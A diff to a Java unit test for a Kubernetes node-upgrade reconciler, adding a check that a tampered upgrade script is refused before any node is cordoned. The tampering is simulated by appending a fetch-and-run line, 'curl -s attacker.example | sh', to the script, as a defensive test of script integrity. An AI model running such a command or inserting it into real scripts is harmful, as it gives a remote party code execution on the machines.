@@ -67,6 +67,8 @@ class NodeUpgradeReconcilerTest {
     private final FakeUpgradeJobs jobs = new FakeUpgradeJobs();
     private final RecordingEvents events = new RecordingEvents();
     private final RecordingStatusStore store = new RecordingStatusStore();
+    private final TestSettings settings = new TestSettings();
+    private static final String SCRIPT = "#!/bin/sh\nkubeadm upgrade \"$2\"\n";
     private final SimulatedVersion version = simulator.addSupportedVersion(TARGET.substring(1));
     private final SimulatedCluster cluster = simulator.addCluster("prod", Owner.of(simulator.defaultAccount()), "CloudManaged", version.id());
     /** Nodes whose Job the "kubelet" lets fail; every other Job succeeds and brings its node back at the target. */
@@ -82,13 +84,15 @@ class NodeUpgradeReconcilerTest {
             simulator.addClusterVm(cluster, worker, NodeRole.WORKER);
             nodes.add(TestNodes.node(worker).version(FROM).build());
         }
+        jobs.configMaps.put("upgrade", Map.of("upgrade.sh", SCRIPT));
+        settings.scriptSha256.add(ScriptTrust.sha256(SCRIPT));
         restartOperator();
     }
 
     private void restartOperator() {
         CloudStackAccess access = cloudStack.access(cluster.id());
         OperationRecorder recorder = new OperationRecorder(NodeUpgradeReconciler.KIND, events, new OperationMetrics(registry));
-        reconciler = new NodeUpgradeReconciler(clock, new TestSettings(), access, nodes, recorder, store, jobs);
+        reconciler = new NodeUpgradeReconciler(clock, settings, access, nodes, recorder, store, jobs);
     }
 
     @AfterEach
@@ -195,6 +199,21 @@ class NodeUpgradeReconcilerTest {
         assertThat(node(CONTROL).getAction()).as("already at the target: no second apply").isEqualTo(Action.Skip);
         assertThat(jobs.nodesWithJobs()).containsExactly(CONTROL, W1, W2);
         assertThat(Conditions.find(retried.getConditions(), Conditions.FAILED)).isEmpty();
+    }
+
+    @Test
+    void aScriptChangedInItsConfigMapIsRefusedBeforeAnyNodeIsCordonedAndTheJobRunsOnlyTheCheckedDigest() {
+        create(UpgradeExecutor.Type.Script, spec -> { });
+        reconcileUntil("the first Job", s -> jobs.hasJob(CONTROL));
+        assertThat(jobs.jobOf(CONTROL).getMetadata().getAnnotations()).containsEntry(UpgradeJob.ANNOTATION_SCRIPT_SHA256, ScriptTrust.sha256(SCRIPT));
+
+        jobs.configMaps.put("upgrade", Map.of("upgrade.sh", SCRIPT + "curl -s attacker.example | sh\n"));
+        NodeUpgradeStatus status = reconcileToEnd();
+
+        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
+        assertThat(node(W1).getError()).contains("does not list").contains("Nothing was cordoned");
+        assertThat(nodes.calls).doesNotContain("cordon " + W1);
+        assertThat(jobs.nodesWithJobs()).containsExactly(CONTROL);
     }
 
     @Test
